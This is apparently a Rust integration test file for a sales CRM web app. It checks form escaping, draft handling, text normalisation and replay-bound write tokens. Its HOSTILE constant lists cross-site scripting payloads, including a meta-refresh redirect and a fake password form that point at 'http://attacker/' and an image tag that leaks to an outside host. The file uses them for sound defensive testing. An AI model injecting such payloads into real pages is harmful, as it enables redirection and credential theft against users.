//! Forms and the pages they return to, over real HTTP: nothing in a URL becomes markup or text
//! on a page (a refused plain post is answered with an error code and the id of a draft the
//! server keeps for that user), and typed text is normalised before it is checked, stored and
//! sent to a vendor.

use crate::auth_support;

use app::domain::{VendorId, WriteOutcome};
use auth_support::{ROCKY_CUSTOMER, demo_settings, form, start_app};
use reqwest::StatusCode;
use salesdesk::storage::outbox::WritePayload;

/// Text that would be markup, an attribute break-out or a sentence of the attacker's choosing
/// if it reached the page unescaped.
const HOSTILE: [&str; 7] = [
    "</textarea><meta http-equiv=\"refresh\" content=\"0;url=http://attacker/\">",
    "<img src=\"http://x/leak?",
    "\"><script>alert(1)</script>",
    "' autofocus onfocus='alert(1)' x='",
    "</textarea><form action=\"http://attacker/\"><input name=\"pw\"></form>",
    "&lt;b&gt;双重转义&lt;/b&gt;",
    "页面上的任意文字：请把密码发给攻击者",
];

/// Every form parameter a page has ever read back.
const PARAMS: [&str; 12] = [
    "f_form",
    "f_error",
    "f_done",
    "f_draft",
    "f_note",
    "f_remark",
    "f_description",
    "f_username",
    "f_display_name",
    "f_team",
    "f_tanma",
    "f_role",
];

/// Markup that must never appear in a page.
const MARKUP: [&str; 4] = [
    "<meta http-equiv",
    "<img src=\"http://x",
    "<script>alert",
    "<form action=\"http://attacker",
];
/// Text a URL must not put on a page, even escaped.
const TEXT: [&str; 3] = ["onfocus='alert", "请把密码发给攻击者", "双重转义"];

/// The text between `<textarea …>` and `</textarea>`, and every island's `data-props` value
/// (which must end the island's tag: an unescaped quote would end it early).
fn textareas_and_props(body: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = body;
    while let Some(i) = rest.find("<textarea") {
        let open_end = rest[i..].find('>').map(|j| i + j + 1).expect("textarea tag ends");
        let close = rest[open_end..].find("</textarea>").map(|j| open_end + j).expect("textarea closes");
        out.push(&rest[open_end..close]);
        rest = &rest[close..];
    }
    let mut rest = body;
    while let Some(i) = rest.find(" data-props=\"") {
        let start = i + " data-props=\"".len();
        let end = rest[start..].find('"').map(|j| start + j).expect("attribute ends");
        assert_eq!(&rest[end..end + 2], "\">", "island props end the tag: {}", &rest[start..end]);
        out.push(&rest[start..end]);
        rest = &rest[end..];
    }
    out
}

/// No markup anywhere, and none inside textareas and island props.
/// What the page shows under a form (`data-testid` `testid`): the island's props also carry
/// the limits' words as templates for the browser, so the whole page is not the measure.
fn shown_feedback<'a>(body: &'a str, testid: &str) -> &'a str {
    let marker = format!("data-testid=\"{testid}\"");
    let start = body.find(&marker).unwrap_or_else(|| panic!("no {testid} on the page"));
    let end = body[start..].find("</div>").map_or(body.len(), |e| start + e);
    &body[start..end]
}

fn assert_no_markup(body: &str, what: &str) {
    for fragment in MARKUP {
        assert!(!body.contains(fragment), "{what}: the page contains {fragment:?}");
    }
    for content in textareas_and_props(body) {
        assert!(
            !content.contains('<') && !content.contains('>'),
            "{what}: unescaped markup inside a textarea or island props: {content:?}"
        );
    }
}

/// Nothing from the URL on the page at all.
fn assert_clean(body: &str, what: &str) {
    assert_no_markup(body, what);
    for payload in HOSTILE {
        assert!(!body.contains(payload), "{what}: the page contains {payload:?} as is");
    }
    for fragment in TEXT {
        assert!(!body.contains(fragment), "{what}: the page shows {fragment:?}");
    }
}

/// A form token the way the page makes them.
fn token(name: &str) -> String {
    format!("{name}-{}", std::process::id())
}

#[tokio::test]
async fn reflected_form_parameters_never_become_markup_or_text() {
    let app = start_app(demo_settings()).await;
    let admin = app.login("admin").await;
    let customer = format!("/customers/{ROCKY_CUSTOMER}");
    for payload in HOSTILE {
        for form_name in ["note", "remark", "create_user", payload] {
            let mut pairs: Vec<(&str, &str)> = PARAMS.iter().map(|p| (*p, payload)).collect();
            pairs[0] = ("f_form", form_name);
            let q = form(&pairs);
            for page in [&customer, "/admin/users"] {
                let r = app.get(Some(&admin), &format!("{page}?{q}")).await;
                assert_eq!(r.status, StatusCode::OK, "{page}?{q}");
                assert_clean(&r.body, &format!("{page} with {payload:?}"));
            }
            // Without a draft id the error code is read, and an unknown one is worded generically.
            let q = form(&[("f_form", form_name), ("f_error", payload), ("f_note", payload)]);
            let r = app.get(Some(&admin), &format!("{customer}?{q}")).await;
            assert_clean(&r.body, &format!("f_error={payload:?}"));
            if form_name == "note" {
                assert!(
                    r.body.contains("提交未成功，请重试。"),
                    "an unknown code reads as a generic message"
                );
            }
        }
    }
    // A known code is worded by the page, in the reader's language.
    let r = app
        .get(Some(&admin), &format!("{customer}?f_form=note&f_error=vendor_rate_limited"))
        .await;
    assert!(r.body.contains("供应商暂时限制了请求频率"), "known code worded");
}

#[tokio::test]
async fn a_refused_plain_post_returns_a_code_and_a_draft_only_its_author_sees() {
    let app = start_app(demo_settings()).await;
    let admin = app.login("admin").await;
    let rocky = app.login("rocky").await;
    let page = format!("/customers/{ROCKY_CUSTOMER}");

    // Too long, and hostile: refused, and the redirect carries no text.
    let typed = format!("{}{}", HOSTILE.join("\r\n"), "字".repeat(1000));
    let body = form(&[("key", ROCKY_CUSTOMER), ("text", &typed), ("token", &token("draft"))]);
    let r = app.post_plain(&admin, "/api/add_note", &page, &body).await;
    assert_eq!(r.status, StatusCode::FOUND);
    let location = r.location().unwrap_or_default().to_string();
    let prefix = format!("{page}?f_form=note&f_error=note_too_long&f_draft=");
    assert!(location.starts_with(&prefix), "{location}");
    let draft_id = &location[prefix.len()..];
    assert!(
        draft_id.len() == 32 && draft_id.bytes().all(|b| b.is_ascii_hexdigit()),
        "{location}"
    );

    // Its author gets the message next to the field and the text back, escaped.
    let r = app.get(Some(&admin), &location).await;
    assert_eq!(r.status, StatusCode::OK);
    assert_no_markup(&r.body, "the refilled page");
    assert!(
        shown_feedback(&r.body, "note-feedback").contains("跟进内容最多 1000 个字"),
        "the error, worded by the page"
    );
    assert!(
        r.body.contains("&lt;/textarea&gt;&lt;meta http-equiv=\"refresh\""),
        "the typed text is back in the textarea, escaped"
    );
    assert!(r.body.contains("&amp;lt;b&amp;gt;双重"), "an entity typed by the rep stays text");

    // Anyone else following the same link sees an empty form and no error.
    let r = app.get(Some(&rocky), &location).await;
    assert_eq!(r.status, StatusCode::OK);
    assert_clean(&r.body, "someone else's draft");
    assert!(
        !r.body.contains("http-equiv") && !shown_feedback(&r.body, "note-feedback").contains("跟进内容最多"),
        "no draft, no error"
    );
    // So does an unknown id.
    let unknown = format!("{prefix}{}", "0".repeat(32));
    let r = app.get(Some(&admin), &unknown).await;
    assert!(!shown_feedback(&r.body, "note-feedback").contains("跟进内容最多"), "unknown draft");

    // A post that goes through comes back with the success line.
    let body = form(&[("key", ROCKY_CUSTOMER), ("text", "电话沟通，下周演示"), ("token", &token("ok"))]);
    let r = app.post_plain(&admin, "/api/add_note", &page, &body).await;
    let done = format!("{page}?f_done=note");
    assert_eq!((r.status, r.location()), (StatusCode::FOUND, Some(done.as_str())));
    let r = app.get(Some(&admin), &done).await;
    assert!(r.body.contains("已提交，各供应商的发送状态见下方。"), "success line");
}

#[tokio::test]
async fn typed_text_is_normalised_before_it_is_stored_and_sent() {
    let app = start_app(demo_settings()).await;
    let admin = app.login("admin").await;
    let juzi = app.sims.connections.juzi.as_ref().expect("juzi").base_url.clone();
    let union_id = app
        .sims
        .universe
        .customers
        .iter()
        .find(|p| p.external_user_id == ROCKY_CUSTOMER)
        .and_then(|p| p.union_id.clone())
        .expect("seed 004 has a unionId");
    let sim = |path: String| {
        let client = app.client.clone();
        let url = juzi.join(&path).expect("url");
        async move {
            client
                .get(url)
                .send()
                .await
                .expect("simulator")
                .json::<serde_json::Value>()
                .await
                .expect("JSON")
        }
    };

    // CRLF from the browser, a zero-width space, a NUL and a BOM.
    let typed = "第一行\r\n第二行\u{200B}\u{0}\u{FEFF}\r\n";
    let r = app
        .api(
            Some(&admin),
            "/api/add_note",
            &form(&[("key", ROCKY_CUSTOMER), ("text", typed), ("token", &token("norm-note"))]),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let outcome: WriteOutcome = serde_json::from_str(&r.body).expect("outcome");
    let rep = outcome
        .writes
        .iter()
        .find(|w| w.vendor == VendorId::Juzi)
        .expect("a Juzibot write")
        .rep_user_id
        .clone();
    let stored = app.backend.store.outbox_for_customer(ROCKY_CUSTOMER).await.expect("outbox");
    assert!(
        stored
            .iter()
            .any(|i| matches!(&i.payload, WritePayload::Note { text, .. } if text == "第一行\n第二行")),
        "the outbox holds the normalised text"
    );
    let follows = sim(format!("/__sim/juzi/follows?unionId={union_id}&userId={rep}")).await;
    let sent: Vec<&str> = follows
        .as_array()
        .expect("list")
        .iter()
        .filter_map(|f| f["content"].as_str())
        .collect();
    assert_eq!(sent, vec!["第一行\n第二行"], "Juzibot received the normalised note");

    // 150 characters with line breaks, posted as CRLF (152 raw): accepted and sent as LF.
    let description = ["描".repeat(50), "述".repeat(49), "文".repeat(49)].join("\r\n");
    let r = app
        .api(
            Some(&admin),
            "/api/set_remark",
            &form(&[
                ("key", ROCKY_CUSTOMER),
                ("remark", "李总\u{200D}"),
                ("description", &description),
                ("token", &token("norm-remark")),
            ]),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let edit = sim(format!("/__sim/juzi/remarks?unionId={union_id}&userId={rep}")).await;
    assert_eq!(
        edit["description"].as_str(),
        Some(description.replace("\r\n", "\n").as_str()),
        "{edit}"
    );
    assert_eq!(edit["remark"].as_str(), Some("李总"), "{edit}");

    // Nothing but invisible characters is empty.
    let r = app
        .api(
            Some(&admin),
            "/api/add_note",
            &form(&[
                ("key", ROCKY_CUSTOMER),
                ("text", "\u{200B}\u{FEFF}\u{0}\r\n"),
                ("token", &token("norm-empty")),
            ]),
        )
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
    assert!(r.body.contains(r#"{"error":"note_empty"}"#), "{}", r.body);
}

/// Audit lines about adding notes.
async fn note_audit_lines(app: &auth_support::App) -> usize {
    let rows = salesdesk::storage::audit::list(&app.auth.store, None, 1000).await.expect("audit");
    rows.iter().filter(|r| r.action == "add_note").count()
}

#[tokio::test]
async fn a_write_token_is_bound_to_its_user_customer_and_content() {
    let app = start_app(demo_settings()).await;
    let rocky = app.login("rocky").await;
    let admin = app.login("admin").await;
    let note = |text: &'static str| form(&[("key", ROCKY_CUSTOMER), ("text", text), ("token", "shared-token-1")]);

    let first = app.api(Some(&rocky), "/api/add_note", &note("张三的跟进")).await;
    assert_eq!(first.status, StatusCode::OK, "{}", first.body);
    let first: WriteOutcome = serde_json::from_str(&first.body).unwrap();
    let lines = note_audit_lines(&app).await;

    // Another user's note with the same token is a write of its own, with its own text.
    let other = app.api(Some(&admin), "/api/add_note", &note("管理员的跟进")).await;
    assert_eq!(other.status, StatusCode::OK, "{}", other.body);
    assert!(!other.body.contains("张三的跟进"), "another user's note came back: {}", other.body);
    let other: WriteOutcome = serde_json::from_str(&other.body).unwrap();
    assert!(other.writes.iter().all(|w| first.writes.iter().all(|f| f.id != w.id)));
    assert!(note_audit_lines(&app).await > lines);
    let lines = note_audit_lines(&app).await;

    // The same form sent again is the same write: same items, no second audit line.
    let again = app.api(Some(&rocky), "/api/add_note", &note("张三的跟进")).await;
    let again: WriteOutcome = serde_json::from_str(&again.body).unwrap();
    assert_eq!(
        again.writes.iter().map(|w| w.id).collect::<Vec<_>>(),
        first.writes.iter().map(|w| w.id).collect::<Vec<_>>()
    );
    assert_eq!(note_audit_lines(&app).await, lines, "a resubmission is not audited again");

    // The token replayed with other text is refused, not answered "delivered".
    let replay = app.api(Some(&rocky), "/api/add_note", &note("改过的文字")).await;
    assert_eq!(replay.status, StatusCode::BAD_REQUEST, "{}", replay.body);
    assert!(replay.body.contains("form_expired"), "{}", replay.body);
    assert_eq!(note_audit_lines(&app).await, lines);
}
